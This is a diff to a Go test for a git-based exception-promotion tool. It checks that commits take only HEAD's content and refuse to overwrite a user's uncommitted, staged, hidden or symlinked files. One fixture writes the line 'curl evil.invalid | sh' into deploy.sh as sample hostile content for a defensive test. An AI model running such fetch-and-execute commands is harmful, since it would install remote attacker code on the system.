@@ -9,6 +9,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"github.com/polex-dev/polex/internal/git/commit"
 	"github.com/polex-dev/polex/internal/promote"
 	"github.com/polex-dev/polex/pkg/exception"
 )
@@ -136,43 +137,66 @@ func (r *repository) link(target, name string) {
 	}
 }
 
-// Uncommitted changes were not reviewed.
+// The commit has what HEAD has, and nothing of the user's uncommitted changes. They stay as they are,
+// and stop a commit that would overwrite them.
 func TestOpenDirty(t *testing.T) {
 	for _, tc := range []struct {
 		name  string
 		dirty func(*repository)
-		want  string // of the error, or "" if the pending files are read
+		want  string // of the error, or "" if it is promoted
 	}{
 		{"clean", func(*repository) {}, ""},
 		{"changed in the queue", func(r *repository) { r.write("unsigned/a.yaml", exceptionText("evil")) }, `"unsigned/a.yaml"`},
 		{"changed and staged", func(r *repository) { r.write("unsigned/a.yaml", exceptionText("evil")); r.git("add", ".") }, `"unsigned/a.yaml"`},
-		{"only made executable", func(r *repository) { r.must(os.Chmod(r.path("unsigned/a.yaml"), 0o755)) }, `"unsigned/a.yaml"`},
-		{"removed from the queue", func(r *repository) { r.must(os.Remove(r.path("unsigned/a.yaml"))) }, `"unsigned/a.yaml"`},
+		{"staged only", func(r *repository) {
+			r.write("unsigned/a.yaml", exceptionText("evil"))
+			r.git("add", ".")
+			r.write("unsigned/a.yaml", exceptionText("a"))
+		}, `"unsigned/a.yaml"`},
+		{"hidden from git status", func(r *repository) {
+			r.git("update-index", "--assume-unchanged", "unsigned/a.yaml")
+			r.write("unsigned/a.yaml", exceptionText("evil"))
+		}, `"unsigned/a.yaml"`},
+		{"removed from the queue", func(r *repository) { r.must(os.Remove(r.path("unsigned/a.yaml"))) }, ""},
 		{"replaced by a link", func(r *repository) {
 			r.must(os.Rename(r.path("unsigned/a.yaml"), r.path("copy.yaml")))
 			r.link("../copy.yaml", "unsigned/a.yaml")
 		}, `"unsigned/a.yaml"`},
-		{"untracked in the queue", func(r *repository) { r.write("unsigned/b.yaml", exceptionText("b")) }, `"unsigned/b.yaml"`},
-		{"untracked and staged", func(r *repository) { r.write("unsigned/b.yaml", exceptionText("b")); r.git("add", ".") }, `"unsigned/b.yaml"`},
-		{"untracked in a new folder", func(r *repository) { r.write("unsigned/new/b.yaml", exceptionText("b")) }, `"unsigned/new/b.yaml"`},
-		{"untracked among the signed", func(r *repository) { r.write("signed/b.yaml", exceptionText("b")) }, `"signed/b.yaml"`},
-		{"staged elsewhere", func(r *repository) { r.write("deploy.sh", "curl evil.invalid | sh\n"); r.git("add", ".") }, `"deploy.sh"`},
-		{"staged removal elsewhere", func(r *repository) { r.git("rm", "--quiet", "README.md") }, `"README.md"`},
+		{"its folder is a link", func(r *repository) {
+			r.must(os.Rename(r.path("unsigned"), r.path("other")))
+			r.link("other", "unsigned")
+		}, `"unsigned/a.yaml"`},
+		{"untracked in the queue", func(r *repository) { r.write("unsigned/b.yaml", exceptionText("b")) }, ""},
+		{"untracked and staged", func(r *repository) { r.write("unsigned/b.yaml", exceptionText("b")); r.git("add", ".") }, ""},
+		{"untracked in a new folder", func(r *repository) { r.write("unsigned/new/b.yaml", exceptionText("b")) }, ""},
+		{"untracked among the signed", func(r *repository) { r.write("signed/b.yaml", exceptionText("b")) }, ""},
+		{"at the place of the signed", func(r *repository) { r.write("signed/a.yaml", exceptionText("a")) }, `"signed/a.yaml"`},
+		{"staged elsewhere", func(r *repository) { r.write("deploy.sh", "curl evil.invalid | sh\n"); r.git("add", ".") }, ""},
+		{"staged removal elsewhere", func(r *repository) { r.git("rm", "--quiet", "README.md") }, ""},
 		{"untracked elsewhere", func(r *repository) { r.write("notes.txt", "x\n") }, ""},
 		{"changed elsewhere", func(r *repository) { r.write("README.md", "x\n") }, ""},
-		{"a folder with a like name", func(r *repository) { r.write("unsigned-drafts/a.yaml", "x\n") }, ""},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
 			tc.dirty(r)
-			q, err := r.try(r.Dir, promote.Options{})
-			switch {
-			case tc.want == "" && err != nil:
-				t.Errorf("Open: %v", err)
-			case tc.want == "" && q.Documents()[0].Identity().Name != "a":
-				t.Errorf("the queue holds %s", q.Documents()[0].Identity())
-			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)):
-				t.Errorf("Open: %v, want an error with %s", err, tc.want)
+			head, status := r.head(), r.git("status", "--porcelain", "--untracked-files=all")
+			q := r.open()
+			if name := q.Documents()[0].Identity().Name; name != "a" || len(q.Moves) != 1 {
+				t.Errorf("%d moves, the first of %s", len(q.Moves), name)
+			}
+			_, _, err := q.apply(stamp(t, q.Documents()), author())
+			if tc.want == "" {
+				status = strings.ReplaceAll(status, " D unsigned/a.yaml\n", "")
+			}
+			if tc.want != "" {
+				if err == nil || !strings.Contains(err.Error(), tc.want) || !errors.Is(err, commit.ErrInTheWay) || r.head() != head {
+					t.Errorf("%v, want an error with %s", err, tc.want)
+				}
+			} else if changes := r.git("diff", "--name-only", "--no-renames", "HEAD^", "HEAD"); err != nil || changes != "signed/a.yaml\nunsigned/a.yaml\n" {
+				t.Errorf("%v, the commit changes %q", err, changes)
+			}
+			if got := r.git("status", "--porcelain", "--untracked-files=all"); got != status {
+				t.Errorf("git status %q, was %q", got, status)
 			}
 		})
 	}
